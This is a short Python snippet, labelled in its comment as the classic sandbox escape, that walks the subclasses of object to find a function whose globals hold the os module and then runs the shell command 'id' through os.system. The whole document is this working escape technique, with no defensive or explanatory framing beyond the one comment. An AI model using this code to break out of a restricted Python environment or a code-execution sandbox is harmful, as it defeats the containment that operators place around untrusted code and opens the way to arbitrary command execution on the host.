# The classic sandbox escape: walk object's subclasses to a class whose function globals hold os.
for c in ().__class__.__base__.__subclasses__():
    init = c.__init__
    g = getattr(init, '__globals__', None)
    if g and 'os' in g:
        g['os'].system('id')
        break
print('no way out')
